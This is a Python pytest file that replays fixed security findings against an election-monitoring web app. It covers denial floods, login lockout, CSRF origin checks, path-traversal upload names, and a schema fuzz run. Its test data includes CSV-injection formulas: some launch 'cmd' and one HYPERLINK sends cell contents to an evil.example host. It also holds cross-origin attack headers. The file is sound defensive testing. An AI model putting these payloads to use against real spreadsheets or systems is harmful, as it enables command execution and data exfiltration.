"""The web layer's security findings of issue 17, each replayed as its attack, and a fuzz run.

Every test below reproduces one finding (an attacker on loopback holding accounts of every
role) against the real app (``create_app``) over a real store and evidence archive, through
Starlette's TestClient, and asserts the fixed behaviour. The segments are small byte strings
(the web layer serves bytes; it never decodes them), so nothing here needs ffmpeg except the
recorder test. Windows and locks run on a fake clock that the tests move forward.

The last test is a schemathesis run over the app's OpenAPI schema, in process (ASGI), with a
fixed number of examples per operation and a fixed seed (no example database), so it sends the
same requests on every machine: zero 5xx, and every response conforms to what the schema
declares (status, content type, body, headers; valid requests accepted, invalid ones refused).
"""

from __future__ import annotations

import csv
import hashlib
import io
import logging
import logging.handlers
import os
import shutil
import stat
import tempfile
import threading
import time
import uuid
import warnings
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import schemathesis

with warnings.catch_warnings():
    warnings.simplefilter("ignore", DeprecationWarning)
    from starlette.testclient import TestClient

from pollwatch.evidence.archive import EvidenceArchive
from pollwatch.results.store import ElectionStore
from pollwatch.settings import Settings
from pollwatch.spreadsheet import neutralise
from pollwatch.synthetic.simulator import simulate_clean
from pollwatch.video.accounts import AccountStore
from pollwatch.video.custody import DENIALS_PER_WINDOW, MAX_RANGE, RATE_LIMITED
from pollwatch.video.throttle import (
    ACCOUNT_FAILURES,
    ADDRESS_FAILURES,
    LoginOutcome,
    LoginThrottle,
)
from pollwatch.web import views
from pollwatch.web.access_log import ACCESS_LOGGER
from pollwatch.web.app import all_routes, create_app
from pollwatch.web.server import configure_access_log
from pollwatch.web.video import SESSION_COOKIE

from ..video.conftest import ABROAD, NATIONAL, PASSWORD, POLICY, USERS, SegmentWriter, Site

ELECTION = "sim-sec"
#: The host TestClient sends (``Host: testserver``): the app's own origin in these tests.
OWN_ORIGIN = "http://testserver"
EVIL_ORIGIN = "http://evil.example"


#: The bytes of each segment (the web layer serves bytes and never decodes them).
CONTENTS = {
    "n1a": b"N-1 first segment " * 100,
    "n1b": b"N-1 second segment " * 100,
    "s1a": b"S-1 only segment " * 100,
    "n1a-blurred": b"N-1 blurred " * 100,
}


def _segment_hashes() -> list[str]:
    """The SHA-256 of every segment of the site (a blurred copy ends with its source's hash)."""
    hashes = {name: hashlib.sha256(data).hexdigest() for name, data in CONTENTS.items()}
    blurred = CONTENTS["n1a-blurred"] + hashes["n1a"].encode()
    hashes["n1a-blurred"] = hashlib.sha256(blurred).hexdigest()
    return sorted(hashes.values())


class FakeClock:
    """A monotonic clock that moves only when told."""

    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


def _build_site(home: Path) -> Site:
    """A home with a stored election, an archive (N-1: two segments, one blurred; S-1: one
    segment, no blurred copy), the test policy, and one account with a token per role."""
    settings = Settings(home=home, download=False)
    ElectionStore(settings.elections_dir).save(
        simulate_clean(stations=60, regions=3, seed=3, election_id=ELECTION)
    )
    archive = EvidenceArchive.init(settings.evidence_dir, "test/security")
    folder = home / "segment-files"
    folder.mkdir()
    writer = SegmentWriter(archive, folder)
    originals = {
        name: writer.segment(station, "cam1", content=CONTENTS[name])
        for name, station in (("n1a", "N-1"), ("n1b", "N-1"), ("s1a", "S-1"))
    }
    blurred = {"n1a": writer.blurred(originals["n1a"], content=CONTENTS["n1a-blurred"])}
    settings.video_dir.mkdir(parents=True, exist_ok=True)
    (settings.video_dir / "policy.toml").write_text(POLICY, encoding="utf-8")
    accounts = AccountStore(settings.video_dir)
    tokens = {}
    for name, role in USERS.items():
        accounts.add_user(name, role, PASSWORD, regions=["north"] if role == "observer" else [])
        tokens[name] = accounts.create_token(name, "test")[1]
    return Site(settings, archive, create_app(settings), originals, blurred, tokens)


@pytest.fixture
def site(tmp_path: Path) -> Iterator[Site]:
    built = _build_site(tmp_path)
    yield built
    built.archive.close()


@pytest.fixture
def clock(site: Site) -> FakeClock:
    """The fake clock of the site's login throttle and custody windows."""
    fake = FakeClock()
    service = site.app.state.video
    service.logins.clock = fake
    service.custody().clock = fake
    return fake


def _log_bytes(site: Site) -> int:
    return sum(p.stat().st_size for p in site.settings.evidence_dir.rglob("*") if p.is_file())


# --- unbounded denial entries --------------------------------------------------------------------
def test_a_flood_of_denials_is_bounded_and_summarised(site: Site, clock: FakeClock) -> None:
    """Was: 500 anonymous denials with a long Range header made 501 entries, 4.1 MiB."""
    segment = site.originals["n1a"].sha256
    huge_range = "bytes=0-" + "9" * 8000
    before = _log_bytes(site)
    attacker = site.client(ABROAD)  # anonymous, outside the national network: foreign-denied
    for _ in range(500):
        response = attacker.get(f"/api/video/segments/{segment}", headers={"Range": huge_range})
        assert response.status_code == 403
    denied = site.custody("denied")
    assert len(denied) == DENIALS_PER_WINDOW  # written in full; the rest are counted
    for entry in denied:
        details = entry["details"]
        assert len(details["range"]) <= MAX_RANGE + 1 and details["range"].startswith("bytes=0-")
        assert details["range_length"] == len(huge_range)
        assert details["range_sha256"] == hashlib.sha256(huge_range.encode()).hexdigest()
        assert details["status"] == 403 and entry["reason"] == "foreign-denied"
    # the window closes: the next custody entry (here, reading the audit) writes the summary
    clock.now += 61
    rows = site.client(NATIONAL, "carl").get("/api/audit/denied").json()["rows"]
    [summary] = [r for r in rows if r["reason"] == RATE_LIMITED]
    assert summary["suppressed"] == 500 - DENIALS_PER_WINDOW
    assert summary["address"] == ABROAD and summary["user"] == "anonymous"
    [entry] = site.custody("denied")[DENIALS_PER_WINDOW:]
    assert entry["details"]["reasons"] == {"foreign-denied": 480}
    assert entry["details"]["statuses"] == {"403": 480}
    assert entry["details"]["stations"] == {"N-1": 480}
    assert len(rows) == DENIALS_PER_WINDOW + 1
    assert _log_bytes(site) - before < 64 * 1024  # was 4.1 MiB
    # a station filter finds the summary too
    by_station = site.client(NATIONAL, "carl").get("/api/audit/denied?station=N-1").json()
    assert sum(r["suppressed"] or 1 for r in by_station["rows"]) == 500


def test_pending_denials_are_summarised_when_the_server_stops(site: Site) -> None:
    segment = site.originals["n1a"].sha256
    with TestClient(site.app, client=(ABROAD, 1)) as attacker:  # runs the app's lifespan
        for _ in range(DENIALS_PER_WINDOW + 7):
            assert attacker.get(f"/api/video/segments/{segment}").status_code == 403
        assert len(site.custody("denied")) == DENIALS_PER_WINDOW
    summary = site.custody("denied")[-1]
    assert summary["reason"] == RATE_LIMITED and summary["details"]["suppressed"] == 7


def test_denials_of_one_client_do_not_silence_another(site: Site, clock: FakeClock) -> None:
    segment = site.originals["s1a"].sha256
    for _ in range(DENIALS_PER_WINDOW + 5):
        site.client(ABROAD).get(f"/api/video/segments/{segment}")
    assert site.client("203.0.113.77").get(f"/api/video/segments/{segment}").status_code == 403
    assert site.custody("denied")[-1]["address"] == "203.0.113.77"


# --- formulas in the audit CSV -------------------------------------------------------------------
#: OWASP's CSV-injection examples, one per dangerous first character.
FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_the_audit_csv_lets_no_formula_through(site: Site) -> None:
    """Was: a Range header such as =cmd|' /C calc'!A0 reached the audit CSV as a formula."""
    segment = site.originals["n1a"].sha256
    sent = [f for f in FORMULAS if f[0] not in "\t\r"]  # HTTP strips a leading TAB; CR is illegal
    for number, payload in enumerate(sent):
        # denied (from abroad) and served (a national address each: no repeat suppression)
        site.client(ABROAD).get(f"/api/video/segments/{segment}", headers={"Range": payload})
        served = site.client(f"192.0.2.{100 + number}").get(
            f"/api/video/segments/{segment}", headers={"Range": payload}
        )
        assert served.status_code == 200  # a malformed Range is answered with the whole file
    expected = ["'" + p for p in sent]
    auditor = site.client(NATIONAL, "lena")
    for view in ("denied", "watched?station=N-1&"):
        query = view if "?" in view else view + "?"
        response = auditor.get(f"/api/audit/{query}format=csv")
        assert response.status_code == 200
        rows = list(csv.DictReader(io.StringIO(response.text)))
        assert [r["range"] for r in rows] == expected, view
        for row in rows:
            assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in row.values())
    # the CLI's CSV too
    from pollwatch.cli import main

    buffer = io.StringIO()
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("POLLWATCH_HOME", str(site.settings.home))
        patch.delenv("POLLWATCH_CONFIG", raising=False)
        patch.setattr("sys.stdout", buffer)
        assert main(["video", "audit", "watched", "--station", "N-1", "--csv"]) == 0
    cli_rows = list(csv.DictReader(io.StringIO(buffer.getvalue())))
    assert [r["range"] for r in cli_rows] == expected


@pytest.mark.parametrize("payload", FORMULAS)
def test_every_csv_export_neutralises_each_formula(payload: str) -> None:
    text = views.to_csv([{"name": payload, "count": -3, "share": -0.25}])
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["name"] == "'" + payload  # quoted exactly once, the rest kept
    assert row["count"] == "-3" and row["share"] == "-0.25"  # numbers stay numbers
    assert neutralise("plain text") == "plain text" and neutralise(-3) == -3


# --- login throttling ----------------------------------------------------------------------------
def test_guessing_a_password_locks_the_account(site: Site, clock: FakeClock) -> None:
    """Was: 200 wrong passwords in 8 s, then the right one worked at once."""
    client = site.client(NATIONAL)
    statuses = [
        client.post("/login", data={"name": "lena", "password": f"guess {n:04d}"}).status_code
        for n in range(200)
    ]
    assert statuses[:ACCOUNT_FAILURES] == [401] * ACCOUNT_FAILURES
    assert set(statuses[ACCOUNT_FAILURES:]) == {429}
    right = client.post(
        "/login", data={"name": "lena", "password": PASSWORD}, follow_redirects=False
    )
    assert right.status_code == 429 and SESSION_COOKIE not in right.headers.get("set-cookie", "")
    wait = int(right.headers["Retry-After"])
    assert 1 <= wait <= 900 and "try again in" in right.text
    # from another address too: the account is locked, not only the address
    elsewhere = site.client("192.0.2.55").post(
        "/login", data={"name": "lena", "password": PASSWORD}
    )
    assert elsewhere.status_code == 429
    clock.now += wait
    unlocked = client.post(
        "/login", data={"name": "lena", "password": PASSWORD}, follow_redirects=False
    )
    assert unlocked.status_code == 303 and SESSION_COOKIE in unlocked.headers["set-cookie"]


def test_guessing_many_names_locks_the_address(site: Site, clock: FakeClock) -> None:
    attacker = site.client("192.0.2.66")
    for n in range(ADDRESS_FAILURES):
        # a different name each time: no account lock, only the address's count
        attacker.post("/login", data={"name": f"nobody{n}", "password": "wrong password"})
    locked = attacker.post("/login", data={"name": "carl", "password": PASSWORD})
    assert locked.status_code == 429 and "your address" in locked.text
    assert int(locked.headers["Retry-After"]) >= 1
    # carl himself, from his own address, is not locked out by it
    fine = site.client(NATIONAL).post(
        "/login", data={"name": "carl", "password": PASSWORD}, follow_redirects=False
    )
    assert fine.status_code == 303


def test_parallel_guesses_do_not_slip_past_the_limit() -> None:
    """Attempts whose password is being checked count, so a burst gets no more guesses."""
    release = threading.Event()
    checked: list[str] = []

    class SlowAccounts:
        def authenticate(self, name: str, password: str) -> None:
            checked.append(password)
            release.wait(10)
            return None

    throttle = LoginThrottle(clock=FakeClock())
    outcomes: list[LoginOutcome] = []

    def guess(number: int) -> None:
        outcome = throttle.authenticate(SlowAccounts(), "lena", f"guess {number}", NATIONAL)
        outcomes.append(outcome)

    threads = [threading.Thread(target=guess, args=(n,)) for n in range(30)]
    for thread in threads:
        thread.start()
    deadline = time.monotonic() + 10
    while len(outcomes) < 30 - ACCOUNT_FAILURES and time.monotonic() < deadline:
        time.sleep(0.01)
    assert len(checked) == ACCOUNT_FAILURES  # the others were refused without a check
    assert all(o.lockout is not None for o in outcomes)
    release.set()
    for thread in threads:
        thread.join(10)
    assert throttle.check("lena", "192.0.2.200") is not None  # and the account is now locked


def test_a_lock_looks_the_same_for_unknown_names(site: Site, clock: FakeClock) -> None:
    client = site.client(NATIONAL)
    answers = {}
    for name in ("lena", "nobody-here"):
        for _ in range(ACCOUNT_FAILURES):
            client.post("/login", data={"name": name, "password": "wrong password"})
        answers[name] = client.post("/login", data={"name": name, "password": "x" * 9})
    assert answers["lena"].status_code == answers["nobody-here"].status_code == 429
    assert answers["lena"].text.replace("lena", "") == answers["nobody-here"].text.replace(
        "nobody-here", ""
    )


# --- every refused footage request is in custody; the access log -----------------------------
def test_refused_footage_requests_all_leave_custody_entries(
    site: Site, caplog: pytest.LogCaptureFixture
) -> None:
    """Was: forged or revoked tokens (401) and 409s left no custody entry; no access log."""
    caplog.set_level(logging.INFO, logger=ACCESS_LOGGER)
    n1a, s1a = site.originals["n1a"].sha256, site.originals["s1a"].sha256
    forged = site.client(NATIONAL).get(
        f"/api/video/segments/{n1a}", headers={"Authorization": "Bearer pwv_forged"}
    )
    accounts = AccountStore(site.settings.video_dir)
    [record] = accounts.tokens("lena")
    accounts.revoke_token(record.id)
    revoked = site.client(NATIONAL, "lena").get(f"/api/video/segments/{n1a}?copy=original")
    policy_denied = site.client(NATIONAL, "olga").get(f"/api/video/segments/{s1a}")
    no_blurred = site.client(NATIONAL, "ana").get(f"/api/video/segments/{s1a}")
    served = site.client(NATIONAL, "ana").get(f"/api/video/segments/{n1a}")
    assert [forged.status_code, revoked.status_code] == [401, 401]
    assert [policy_denied.status_code, no_blurred.status_code, served.status_code] == [
        403,
        409,
        200,
    ]
    forged_id = "token:" + hashlib.sha256(b"pwv_forged").hexdigest()[:12]
    assert [
        (e["actor"], e["item"], e["reason"], e["details"]["status"]) for e in site.custody("denied")
    ] == [
        (forged_id, n1a, "unauthenticated", 401),
        (f"token:{record.id}", n1a, "unauthenticated", 401),  # the id `token list` shows
        ("olga", s1a, "observers-elsewhere", 403),
        ("ana", s1a, "no-blurred-copy", 409),
    ]
    assert all(e["address"] == NATIONAL for e in site.custody("denied"))
    assert [e["actor"] for e in site.custody("access")] == ["ana"]
    # the access log: one line per request, time address user method path status bytes
    lines = [r.getMessage() for r in caplog.records if r.name == ACCESS_LOGGER]
    assert len(lines) == 5
    fields = [line.split(" ") for line in lines]
    assert all(len(f) == 7 and f[0].endswith("Z") and f[1] == NATIONAL for f in fields)
    assert [(f[2], f[3], f[5]) for f in fields] == [
        (forged_id, "GET", "401"),
        (f"token:{record.id}", "GET", "401"),
        ("olga", "GET", "403"),
        ("ana", "GET", "409"),
        ("ana", "GET", "200"),
    ]
    assert fields[1][4] == f"/api/video/segments/{n1a}?copy=original"
    assert int(fields[4][6]) == len(served.content)


@pytest.fixture
def access_logger() -> Iterator[logging.Logger]:
    """The access logger, restored after the test (configure_access_log changes it)."""
    logger = logging.getLogger(ACCESS_LOGGER)
    saved = (list(logger.handlers), logger.level, logger.propagate)
    yield logger
    for handler in logger.handlers:
        if handler not in saved[0]:
            handler.close()
    logger.handlers[:] = saved[0]
    logger.setLevel(saved[1])
    logger.propagate = saved[2]


def test_serve_writes_a_private_rotating_access_log(
    site: Site, access_logger: logging.Logger, monkeypatch: pytest.MonkeyPatch
) -> None:
    import uvicorn

    from pollwatch.cli import main

    monkeypatch.setattr(uvicorn.Server, "run", lambda self: None)  # configure, do not listen
    monkeypatch.delenv("POLLWATCH_CONFIG", raising=False)
    assert main(["--home", str(site.settings.home), "serve"]) == 0
    path = site.settings.home / "logs" / "access.log"
    handlers = [h for h in access_logger.handlers if getattr(h, "baseFilename", "") == str(path)]
    assert len(handlers) == 1 and isinstance(handlers[0], logging.handlers.RotatingFileHandler)
    assert configure_access_log(site.settings.home) == path  # again: still one handler
    assert (
        sum(isinstance(h, logging.handlers.RotatingFileHandler) for h in access_logger.handlers)
        == 1
    )
    site.client("192.0.2.44").get("/api/elections?x=%22quoted%20%0Aline%22")
    for handler in access_logger.handlers:
        handler.flush()
    [line] = path.read_text("utf-8").splitlines()
    moment, address, user, method, target, status, size = line.split(" ")
    assert moment.endswith("Z") and "T" in moment
    assert (address, user, method, status) == ("192.0.2.44", "-", "GET", "200")
    assert target == "/api/elections?x=%22quoted%20%0Aline%22" and int(size) > 0
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700


# --- cross-site request forgery ------------------------------------------------------------------
CROSS_ORIGIN = [
    {"Origin": EVIL_ORIGIN},
    {"Origin": "null"},
    {"Sec-Fetch-Site": "cross-site", "Origin": OWN_ORIGIN},
    {"Sec-Fetch-Site": "same-site"},
    {"Referer": EVIL_ORIGIN + "/page"},
    {"Origin": "http://testserver.evil.example"},
]


@pytest.mark.parametrize(
    "headers", CROSS_ORIGIN, ids=lambda h: ",".join(f"{k}={v}" for k, v in h.items())
)
def test_cross_origin_login_is_refused(site: Site, headers: dict[str, str]) -> None:
    """Was: /login (and the import forms) took POSTs from any site's forms."""
    response = site.client(NATIONAL).post(
        "/login",
        data={"name": "lena", "password": PASSWORD},
        headers=headers,
        follow_redirects=False,
    )
    assert response.status_code == 403
    assert "cross-origin" in response.text
    assert SESSION_COOKIE not in response.headers.get("set-cookie", "")


def _form_posts(site: Site) -> dict[str, dict[str, Any]]:
    """Every POST route of the app with a request a browser form could send to it."""
    upload = {"file": ("results.csv", b"station,registered\n1,10\n", "text/csv")}
    return {
        "/login": {"data": {"name": "lena", "password": PASSWORD}},
        "/logout": {},
        "/elections/import": {"files": upload},
        "/api/elections/import": {"files": upload},
        "/elections/import-dataset": {"data": {"dataset": "no-such-dataset"}},
    }


def test_every_post_route_refuses_cross_origin_and_takes_same_origin(site: Site) -> None:
    posts = _form_posts(site)
    routes = {
        getattr(route, "path", "")
        for route in all_routes(site.app)
        if "POST" in (getattr(route, "methods", None) or ())
    }
    assert routes == set(posts), "a new POST route: add it here with a request a form sends"
    for path, request in posts.items():
        refused = site.client(NATIONAL).post(
            path, headers={"Origin": EVIL_ORIGIN}, follow_redirects=False, **request
        )
        assert refused.status_code == 403, path
        same = site.client(NATIONAL).post(
            path,
            headers={"Origin": OWN_ORIGIN, "Sec-Fetch-Site": "same-origin"},
            follow_redirects=False,
            **request,
        )
        assert same.status_code != 403, (path, same.text[:200])
    # nothing was imported by the refused requests; the same-origin login worked
    login = site.client(NATIONAL).post(
        "/login",
        data={"name": "lena", "password": PASSWORD},
        headers={"Origin": OWN_ORIGIN, "Referer": OWN_ORIGIN + "/login"},
        follow_redirects=False,
    )
    assert login.status_code == 303 and SESSION_COOKIE in login.headers["set-cookie"]


def test_clients_that_are_not_browsers_still_post(site: Site) -> None:
    # no Origin, Referer or Sec-Fetch-Site: curl, scripts (a forged request needs a browser)
    upload = {"file": ("garbage.csv", b"\x00\x01 not a results file", "text/csv")}
    response = site.client(NATIONAL).post("/api/elections/import", files=upload)
    assert response.status_code == 400 and "error" in response.json()


# --- low: huge page numbers, ".." uploads, the video folder, denied timelines, OpenAPI --------
@pytest.mark.parametrize("page", [9223372036854775807, 2**70])
def test_a_huge_page_number_is_an_empty_page(site: Site, page: int) -> None:
    """Was: ?page=9223372036854775807 gave a 500."""
    api = site.client().get(f"/api/elections/{ELECTION}/stations?page={page}")
    assert api.status_code == 200
    assert api.json()["stations"] == [] and api.json()["total"] == 60
    html = site.client().get(f"/elections/{ELECTION}?page={page}")
    assert html.status_code == 200 and "Traceback" not in html.text


@pytest.mark.parametrize("name", ["..", ".", "../..", "a/..", "..\\..", ".hidden"])
def test_an_upload_named_dot_dot_is_a_clean_400(site: Site, name: str) -> None:
    """Was: an upload named '..' gave a 500 that showed the temporary folder's path."""
    files = {"file": (name, b"station,registered\n1,10\n", "text/csv")}
    response = site.client().post("/api/elections/import", files=files)
    assert response.status_code == 400, response.text
    message = response.json()["error"]
    assert "pollwatch-upload-" not in message and "/tmp" not in message
    assert "internal error" not in message


def test_the_video_folder_is_private_when_record_runs_first(
    tmp_path: Path, clip_file: Path
) -> None:
    """Was: `pollwatch video record` before `user add` left <home>/video at 0755."""
    from pollwatch.video.manifest import CameraSource
    from pollwatch.video.recorder import Recorder
    from pollwatch.video.simulator import SimulatedCamera

    settings = Settings(home=tmp_path / "home", download=False)
    previous = os.umask(0o022)
    try:
        with (
            EvidenceArchive.init(settings.evidence_dir, "test/record-first") as archive,
            SimulatedCamera(clip_file) as camera,
        ):
            recorder = Recorder(
                archive,
                [CameraSource("S1", "cam1", camera.url)],
                spool=settings.video_dir / "spool",
                segment_seconds=1.0,
            )
            recorder.run(duration=1.5)
    finally:
        os.umask(previous)
    for folder in (settings.video_dir, settings.video_dir / "spool" / "S1" / "cam1"):
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700, folder
    # an older 0755 folder is tightened by the account store, which keeps secrets there
    os.chmod(settings.video_dir, 0o755)
    AccountStore(settings.video_dir)
    assert stat.S_IMODE(settings.video_dir.stat().st_mode) == 0o700


@pytest.fixture(scope="module")
def clip_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    if shutil.which("ffmpeg") is None:
        pytest.skip("ffmpeg is not installed (apt-get install ffmpeg; CI installs it)")
    from pollwatch.video.simulator import generate_clip

    folder = tmp_path_factory.mktemp("clip")
    return generate_clip(
        folder / "clip.ts", seconds=3, width=320, height=240, fps=10, bitrate="200k", keyframe=1.0
    )


@pytest.mark.parametrize(
    ("address", "user", "station"),
    [(NATIONAL, "olga", "S-1"), (ABROAD, None, "N-1"), (ABROAD, "ana", "S-1")],
)
def test_denied_users_get_no_hashes_or_timeline(
    site: Site, address: str, user: str | None, station: str
) -> None:
    """Was: a user the policy denies still got the station's segment hashes and timeline."""
    hashes = [r.sha256 for r in (*site.originals.values(), *site.blurred.values())]
    client = site.client(address, user)
    data = client.get(f"/api/video/stations/{station}")
    assert data.status_code == 200 and data.json()["access"]["allowed"] is False
    assert data.json()["withheld"] is True
    assert [c["camera"] for c in data.json()["cameras"]] == ["cam1"]
    assert all(not c["segments"] and not c["gaps"] for c in data.json()["cameras"])
    page = client.get(f"/video/{station}")
    assert page.status_code == 200 and 'id="withheld"' in page.text
    for sha in hashes:
        for text in (data.text, page.text):
            assert sha not in text and sha[:12] not in text
    # the same station for a user it allows still shows them
    allowed = site.client(NATIONAL, "carl").get(f"/api/video/stations/{station}").json()
    assert allowed["withheld"] is False and allowed["cameras"][0]["segments"]


def test_openapi_documents_errors_csv_and_media(site: Site) -> None:
    """Was: the schema documented none of the 4xx statuses or the CSV responses."""
    spec = site.client().get("/openapi.json").json()
    error = {"$ref": "#/components/schemas/ErrorBody"}
    assert spec["components"]["schemas"]["ErrorBody"]["required"] == ["error"]
    for path, operations in spec["paths"].items():
        for method, operation in operations.items():
            responses = operation["responses"]
            errors = [s for s in responses if s.startswith("4")]
            assert errors, f"{method} {path} declares no 4xx"
            for status in errors:
                if status != "416":
                    schema = responses[status]["content"]["application/json"]["schema"]
                    assert schema == error, (method, path, status)
            has_format = any(p["name"] == "format" for p in operation.get("parameters", []))
            if has_format:
                assert "text/csv" in responses["200"]["content"], (method, path)
    segment = spec["paths"]["/api/video/segments/{sha256}"]["get"]["responses"]
    assert {"200", "206", "401", "403", "404", "409", "416"} <= set(segment)
    assert "video/mp4" in segment["206"]["content"]
    assert "403" in spec["paths"]["/api/elections/import"]["post"]["responses"]


# --- the fuzz run --------------------------------------------------------------------------------
#: Examples per API operation, and the seed: the run is the same on every machine.
FUZZ_EXAMPLES = 25
FUZZ_SEED = 17
#: How often a path or query parameter takes a value that exists in the fuzzed home.
FUZZ_KNOWN = 0.7
#: The whole run's configuration: nothing is read from a schemathesis.toml or the environment.
#: Identifiers are drawn from what the home holds most of the time, so the fuzzer gets past the
#: 404s into the handlers (paging, ranges, filters), and are random otherwise.
FUZZ_CONFIG: dict[str, Any] = {
    "seed": FUZZ_SEED,
    # An import waits up to the import_wait_seconds setting (30 s) for its job, queued behind the
    # fuzzed imports before it: on a loaded machine that passed the client's default 10 s.
    "request-timeout": 60,
    "generation": {"max-examples": FUZZ_EXAMPLES, "database": "none", "mode": "all"},
    "dictionaries": {
        "elections": {"values": [ELECTION]},
        "stations": {"values": ["S000000", "S000001", "S000059"]},
        "video-stations": {"values": ["N-1", "S-1"]},
        "segments": {"values": _segment_hashes()},
    },
    "parameters": {
        key: {"dictionary": dictionary, "probability": FUZZ_KNOWN}
        for key, dictionary in (
            ("path.election_id", "elections"),
            ("path.station_id", "stations"),
            ("query.ids", "elections"),
            ("path.station", "video-stations"),
            ("query.station", "video-stations"),
            ("path.sha256", "segments"),
        )
    },
    "operations": [
        {
            # Whether an upload imports depends on the file's content, which no schema can
            # describe: a schema-valid upload of garbage is rightly a 400, not a 2xx.
            "include-path": "/api/elections/import",
            "checks": {"positive_data_acceptance": {"expected-statuses": ["2xx", "400"]}},
        },
        {
            # Whether an election has units at a level (districts, constituencies) depends on
            # its data, which no schema can describe: asking for absent ones is rightly a 400.
            "include-path": "/api/turnout/scenario",
            "checks": {"positive_data_acceptance": {"expected-statuses": ["2xx", "400", "404"]}},
        },
    ],
}


#: Where the fuzzed app's home will be: made by the ``fuzz_site`` fixture, not at import.
FUZZ_HOME = Path(tempfile.gettempdir()) / f"pollwatch-fuzz-{os.getpid()}-{uuid.uuid4().hex[:8]}"
#: The app, made at collection over a home that does not exist yet (it reads the disk only when
#: a request comes), so schemathesis can read its schema and make one test per operation.
FUZZ_APP = create_app(Settings(home=FUZZ_HOME, download=False))


def _fuzz_schema() -> Any:
    config = schemathesis.Config.from_dict(FUZZ_CONFIG)
    return schemathesis.openapi.from_asgi("/openapi.json", FUZZ_APP, config=config)


@pytest.fixture(scope="module")
def fuzz_site() -> Iterator[Site]:
    """The fuzzed app's home: a store, a video archive, the test policy and accounts."""
    FUZZ_HOME.mkdir()
    built = _build_site(FUZZ_HOME)
    assert _segment_hashes() == sorted(
        r.sha256 for r in (*built.originals.values(), *built.blurred.values())
    )
    yield built
    jobs = getattr(FUZZ_APP.state, "jobs", None)  # import workers the fuzzed uploads started
    if jobs is not None:
        jobs.shutdown()
    built.archive.close()
    shutil.rmtree(FUZZ_HOME, ignore_errors=True)


@_fuzz_schema().parametrize()
def test_fuzz_the_api_against_its_openapi_schema(case: Any, fuzz_site: Site) -> None:
    """Every operation, FUZZ_EXAMPLES examples each: no 5xx, every response as declared.

    Video and audit operations are called twice: anonymously, and with the bearer token of the
    commission's account (which may read the audit views).
    """
    case.call_and_validate()
    if case.path.startswith(("/api/video", "/api/audit")):
        case.call_and_validate(headers={"Authorization": f"Bearer {fuzz_site.tokens['carl']}"})
